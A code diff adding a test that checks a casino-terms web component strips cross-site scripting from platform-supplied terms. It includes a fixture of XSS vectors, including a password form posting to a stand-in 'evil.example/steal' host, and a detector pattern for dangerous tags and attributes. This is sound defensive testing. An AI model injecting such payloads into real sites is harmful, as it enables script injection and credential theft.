@@ -3,15 +3,62 @@ import { axeViolations, button, field, nextEvent, place, resetAll, sandbox, text
 
 const DOCUMENT = '/api/content/getdocument';
 
+const HOSTILE_TERMS = `<h2>Terms and Conditions</h2>
+<script>alert('script')</script>
+<style>.safe-html { display: none }</style>
+<p onclick="alert('onclick')" onmouseover="alert('onmouseover')" style="position:fixed;inset:0">You must be at least 18 years old.</p>
+<img src="/nothing-here.png" alt="" onerror="alert('onerror')">
+<p><a href="javascript:alert('javascript-url')">Claim</a> <a href="https://example.com/rules" onfocus="alert('onfocus')">Rules</a></p>
+<form action="https://evil.example/steal"><input name="password" autofocus onfocus="alert('autofocus')"><button formaction="javascript:alert('formaction')">Send</button><textarea></textarea><select><option>1</option></select></form>
+<iframe srcdoc="<script>parent.alert('srcdoc')</script>"></iframe>
+<svg><animate onbegin="alert('svg')" attributeName="x" dur="1s"></animate></svg>
+<object data="javascript:alert('object')"></object>
+<a href="data:text/html,<script>alert('data-url')</script>">Data</a>`;
+
+/** Whatever could still run script, restyle the widget or collect input in the rendered terms. */
+function dangers(root: Element): string[] {
+  const found: string[] = [];
+  for (const element of root.querySelectorAll('*')) {
+    if (element.matches('script, style, iframe, object, embed, form, input, button, textarea, select, svg, math, link, meta, base')) found.push(`<${element.localName}>`);
+    for (const attribute of element.attributes) {
+      if (/^on/i.test(attribute.name) || attribute.name === 'style' || attribute.name === 'srcdoc' || attribute.name === 'formaction') found.push(`${element.localName}[${attribute.name}]`);
+      if (/^\s*(javascript|vbscript|data):/i.test(attribute.value)) found.push(`${element.localName}[${attribute.name}=${attribute.value.slice(0, 20)}]`);
+    }
+  }
+  return found;
+}
+
 describe('<casino-terms>', () => {
   beforeEach(resetAll);
 
   it('shows the terms, sanitized, without Accept to a visitor who is not signed in', async () => {
-    const host = await place('casino-terms');
-    await until(() => host.shadowRoot!.querySelector('.safe-html h2'), 'the terms text');
-    expect(text(host)).not.to.contain('Accept');
-    expect(host.shadowRoot!.querySelector('.safe-html script, .safe-html [onclick]')).to.equal(null);
-    expect(await axeViolations(host)).to.deep.equal([]);
+    // The platform's terms carry every kind of script the strict profile forbids (vectors in the
+    // style of the public corpora in tests/fixtures/xss): only the formatting may reach the page.
+    await sandbox('documents', { type: 'TermsAndConditions', content: HOSTILE_TERMS });
+    const executions: string[] = [];
+    const trap = (name: string) => () => executions.push(name);
+    const originals = { alert: window.alert, confirm: window.confirm, prompt: window.prompt };
+    Object.assign(window, { alert: trap('alert'), confirm: trap('confirm'), prompt: trap('prompt') });
+    try {
+      const host = await place('casino-terms');
+      const content = await until(() => host.shadowRoot!.querySelector('.safe-html'), 'the terms text');
+      await until(() => content.querySelector('h2'), 'the terms heading');
+      expect(content.querySelector('h2')!.textContent).to.equal('Terms and Conditions');
+      expect(content.textContent).to.contain('You must be at least 18');
+      expect(text(host)).not.to.contain('Accept');
+      for (const element of content.querySelectorAll<HTMLElement>('*')) {
+        for (const name of ['mouseover', 'focus', 'click']) element.dispatchEvent(new Event(name, { bubbles: true }));
+      }
+      await new Promise((resolve) => setTimeout(resolve, 200)); // let onerror, onload and timers fire
+      expect(dangers(content)).to.deep.equal([]);
+      expect(executions).to.deep.equal([]);
+      const link = Array.from(content.querySelectorAll('a')).find((anchor) => anchor.textContent === 'Rules')!;
+      expect(link.getAttribute('href')).to.equal('https://example.com/rules');
+      expect(link.getAttribute('rel')).to.equal('noopener noreferrer');
+      expect(await axeViolations(host)).to.deep.equal([]);
+    } finally {
+      Object.assign(window, originals);
+    }
   });
 
   it('says when the terms cannot be loaded and loads them on Try again', async () => {
